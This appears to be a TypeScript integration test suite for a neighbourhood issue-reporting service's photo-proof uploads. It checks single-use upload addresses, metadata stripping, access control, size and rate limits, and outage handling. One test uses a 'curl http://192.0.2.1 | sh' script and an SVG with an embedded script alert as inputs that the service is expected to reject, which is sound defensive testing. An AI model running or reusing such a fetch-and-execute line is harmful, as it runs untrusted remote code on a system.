import { randomBytes, randomUUID } from "node:crypto";
import { type ClientRequest, request } from "node:http";
import sharp from "sharp";
import { done } from "../activities/signing-up";
import { type Hub, pause, startHub, tally } from "../loop/hub";

// A proof is sent to an address that is good for one upload, and is seen by whoever may see the case it proves.

const community = "510116003901";
let hub: Hub;
let tokens: Record<"resident" | "clerk" | "neighbour" | "stranger" | "enterprise", string>;
beforeAll(async () => {
  hub = await startHub();
  const resident = (subject: string) => hub.token({ role: "resident", regions: [community], subject });
  tokens = {
    resident: await resident("proofs-resident"),
    neighbour: await resident("proofs-neighbour"),
    clerk: await hub.token({ role: "staff", regions: [community], subject: "proofs-clerk" }),
    stranger: await hub.token({ role: "staff", regions: ["510107014901"], subject: "proofs-stranger" }),
    enterprise: await hub.token({ role: "enterprise", subject: "proofs-enterprise" }),
  };
}, 120_000);
afterAll(() => hub?.stop());

/** A photograph with all that a telephone writes into it. */
const photograph = (width = 640): Promise<Buffer> =>
  sharp({ create: { width, height: 480, channels: 3, background: "#7a6" } })
    .jpeg()
    .withExif({ IFD0: { Model: "某品牌手机", Copyright: "机主李四" }, IFD3: { GPSLatitude: "30/1 0/1 0/1" } })
    .toBuffer();

async function reported(): Promise<string> {
  const given = { regionCode: community, title: "路灯不亮", detail: "3号门内第二盏。" };
  return done(await hub.mutate("reportIssue", given, tokens.resident, "id")).id;
}
async function address(issueId: string, token = tokens.clerk): Promise<{ proofId: string; uploadUrl: string }> {
  const { data, errors } = await hub.stack.ask<any>(
    "mutation ($input: RequestProofUploadInput!) { requestProofUpload(input: $input) { proofId uploadUrl userErrors { code } } }",
    { input: { issueId, kind: "AFTER" } },
    token,
  );
  expect([errors, data.requestProofUpload.userErrors]).toEqual([[], []]);
  return data.requestProofUpload;
}
async function put(
  path: string,
  body: Buffer,
  type = "image/jpeg",
): Promise<{ status: number; code?: string; message?: string }> {
  const headers = { "content-type": type };
  const response = await fetch(`${hub.stack.url}${path}`, { method: "PUT", headers, body: new Uint8Array(body) });
  const text = await response.text();
  const [error] = text === "" ? [] : JSON.parse(text).errors;
  return { status: response.status, ...(error && { code: error.extensions.code, message: error.message }) };
}
async function see(proofId: string, token?: string): Promise<Response> {
  const headers: Record<string, string> = token ? { authorization: `Bearer ${token}` } : {};
  return fetch(`${hub.stack.url}/proofs/${proofId}`, { headers });
}
/** Sends so many megabytes without saying beforehand how many. */
const unsized = (path: string, megabytes: number): Promise<number> =>
  new Promise((resolve, reject) => {
    const upload = request(`${hub.stack.url}${path}`, { method: "PUT", headers: { "content-type": "image/jpeg" } });
    upload.on("response", (response) => (response.resume(), resolve(response.statusCode as number))).on("error", reject);
    for (let sent = 0; sent < megabytes; sent += 1) upload.write(Buffer.alloc(1024 * 1024));
    upload.end();
  });
const kept = () =>
  hub.sql("volunteers", "select (select count(*) from proof)::int as proofs, (select count(*) from proof_file)::int as files");

test("of twenty who send to one address one is taken; place and device are gone; whoever sees the case sees it, nobody else", async () => {
  const issueId = await reported();
  const { proofId, uploadUrl } = await address(issueId);
  const picture = await photograph();
  const answers = await Promise.all(Array.from({ length: 20 }, () => put(uploadUrl, picture)));
  expect(tally(answers.map(({ status }) => String(status)))).toEqual({ "204": 1, "410": 19 });
  expect(answers.find(({ status }) => status === 410)?.message).toMatch(/失效或已用过/);

  const shown = await see(proofId, tokens.clerk);
  expect([shown.status, shown.headers.get("content-type"), shown.headers.get("cache-control")]).toEqual([
    ...[200, "image/jpeg", "private, no-store"],
  ]);
  const bytes = Buffer.from(await shown.arrayBuffer());
  const metadata = await sharp(bytes).metadata();
  expect({ width: metadata.width, exif: metadata.exif, xmp: metadata.xmp }).toEqual({ width: 640 });
  expect(bytes.includes(Buffer.from("李四"))).toBe(false);
  expect((await see(proofId, tokens.resident)).status).toBe(200);
  for (const other of [undefined, tokens.neighbour, tokens.stranger, tokens.enterprise])
    expect((await see(proofId, other)).status).toBe(404);
  expect((await see(proofId, "x.y.z")).status).toBe(401);
  expect((await see("nothing", tokens.clerk)).status).toBe(404);
  // A browser is shown the same page, whether there is such a proof or not.
  const page = async (id: string) => {
    const response = await fetch(`${hub.stack.url}/proofs/${id}`, { headers: { accept: "text/html" } });
    return [response.status, await response.text()];
  };
  const foreign = await page(proofId);
  expect(foreign).toEqual([404, expect.stringContaining("没有这份凭证，或无权查看")]);
  for (const absent of [randomUUID(), "nothing"]) expect(await page(absent)).toEqual(foreign);
  const { data } = await hub.stack.ask<any>(`{ issue(id: "${issueId}") { proofs { url } } }`, {}, tokens.clerk);
  expect(data.issue.proofs).toEqual([{ url: `/proofs/${proofId}` }]);
});

test("what is no photograph is refused in Chinese and leaves nothing behind; the address is good afterwards", async () => {
  const { uploadUrl } = await address(await reported());
  const before = await kept();
  const script = Buffer.from("#!/bin/sh\ncurl http://192.0.2.1 | sh\n");
  const drawing = Buffer.from("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>");
  const picture = await photograph();
  const wrong: [string, Buffer, string, number][] = [
    ["a text", script, "text/plain", 415],
    ["no type", script, "", 415],
    ["a form", script, "multipart/form-data; boundary=x", 415],
    ["a script named .jpg", script, "image/jpeg", 422],
    ["a drawing with a script", drawing, "image/png", 422],
    ["nothing", Buffer.alloc(0), "image/jpeg", 422],
    ["half a photograph", picture.subarray(0, 200), "image/jpeg", 422],
    ["noise", randomBytes(100_000), "image/webp", 422],
    ["a photograph that says it is a drawing", picture, "image/png", 422],
    ["50 MB", Buffer.alloc(50 * 1024 * 1024, 1), "image/jpeg", 413],
    ["a byte over 10 MB", Buffer.alloc(10 * 1024 * 1024 + 1, 1), "image/jpeg", 413],
  ];
  for (const [what, bytes, type, status] of wrong) {
    const answer = await put(uploadUrl, bytes, type);
    expect([what, answer.status]).toEqual([what, status]);
    expect(answer.message).toMatch(/照片/);
  }
  expect(await unsized(uploadUrl, 12)).toBe(413);
  expect((await fetch(`${hub.stack.url}${uploadUrl}`)).status).toBe(405);
  expect((await put(`/uploads/${"x".repeat(43)}`, picture)).status).toBe(410);
  expect((await put("/uploads/short", picture)).status).toBe(404);
  expect(await kept()).toEqual(before);
  expect((await put(uploadUrl, picture)).status).toBe(204);
});

test("an address runs out after a quarter of an hour", async () => {
  const { proofId, uploadUrl } = await address(await reported());
  await hub.sql("volunteers", "update proof_upload set expires_at = now() - interval '1 second' where proof_id = $1", [proofId]);
  expect(await put(uploadUrl, await photograph())).toMatchObject({ status: 410, code: "BAD_REQUEST" });
});

test("more uploads at a time than there is room for are asked to wait; strangers hold none of the room", async () => {
  const begun: ClientRequest[] = [];
  const begin = (path: string) =>
    new Promise<number>((resolve, reject) => {
      const headers = { "content-type": "image/jpeg", "content-length": 1_000 };
      const upload = request(`${hub.stack.url}${path}`, { method: "PUT", headers });
      upload.on("response", (response) => (response.resume(), resolve(response.statusCode as number)));
      upload.on("error", reject);
      upload.write(Buffer.alloc(10));
      begun.push(upload);
    });
  // Told before they have sent anything to speak of.
  const strangers = await Promise.all(
    Array.from({ length: 40 }, (_, index) => begin(`/uploads/${String(index).padStart(43, "x")}`)),
  );
  expect(tally(strangers.map(String))).toEqual({ "410": 40 });

  const first = await address(await reported());
  for (let count = 0; count < 20; count += 1) begin(first.uploadUrl).catch(() => undefined);
  const second = await address(await reported());
  const picture = await photograph();
  let answer = await put(second.uploadUrl, Buffer.alloc(10));
  for (let wait = 0; wait < 100 && answer.status !== 429; wait += 1) {
    await pause(20);
    answer = await put(second.uploadUrl, Buffer.alloc(10));
  }
  expect(answer).toMatchObject({ status: 429, code: "RATE_LIMITED" });
  for (const upload of begun) upload.destroy();
  for (let wait = 0; wait < 100 && (await put(second.uploadUrl, Buffer.alloc(10))).status === 429; wait += 1) await pause(20);
  expect([(await put(second.uploadUrl, picture)).status, (await put(first.uploadUrl, picture)).status]).toEqual([204, 204]);
});

test("with the volunteers' service away the answer says so, and nothing of where it is", async () => {
  const { proofId, uploadUrl } = await address(await reported());
  await hub.stack.kill("volunteers");
  const answer = await put(uploadUrl, await photograph());
  expect(answer).toMatchObject({ status: 503, code: "SUBGRAPH_UNAVAILABLE" });
  const seen = await see(proofId, tokens.clerk);
  expect([seen.status, /127\.0\.0\.1|ECONN|fetch/.test((await seen.text()) + answer.message)]).toEqual([503, false]);
  await hub.stack.revive("volunteers");
});
